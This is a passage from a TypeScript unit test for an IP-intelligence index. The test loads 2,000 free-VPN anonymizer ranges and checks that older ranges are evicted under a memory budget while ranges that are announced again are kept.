        provider: 'WINDSCRIBE',
        type: 'FREE_VPN',
        timestamp: ts,
        country_code: '',
        asn: 0,
      } as never,
      line: '',
    });
    for (let i = 0; i < 2_000; i++) {
      index.observe(FEEDS.anonymizers, [range(i, S0 - 2_000 + i)]);
      // Range 0 is announced again all along: it stays.
      if (i % 100 === 0) index.observe(FEEDS.anonymizers, [range(0, S0 - 2_000 + i)]);
    }
    const s = index.stats();
    assert.ok(s.anonymizer_ranges < 2_000 && s.evictions.ranges === 2_000 - s.anonymizer_ranges, JSON.stringify(s));
    assert.ok(s.bytes <= s.budget_bytes);
    assert.deepEqual(index.intelligence(ip('10.7.207.1')).categories, ['FREE_VPN'], 'the newest range (1999)');
    assert.deepEqual(index.intelligence(ip('10.0.0.1')).categories, ['FREE_VPN'], 'range 0, announced again');
    assert.equal(index.intelligence(ip('10.0.1.1')), NO_INTELLIGENCE, 'range 1, announced once long ago');
  });
});
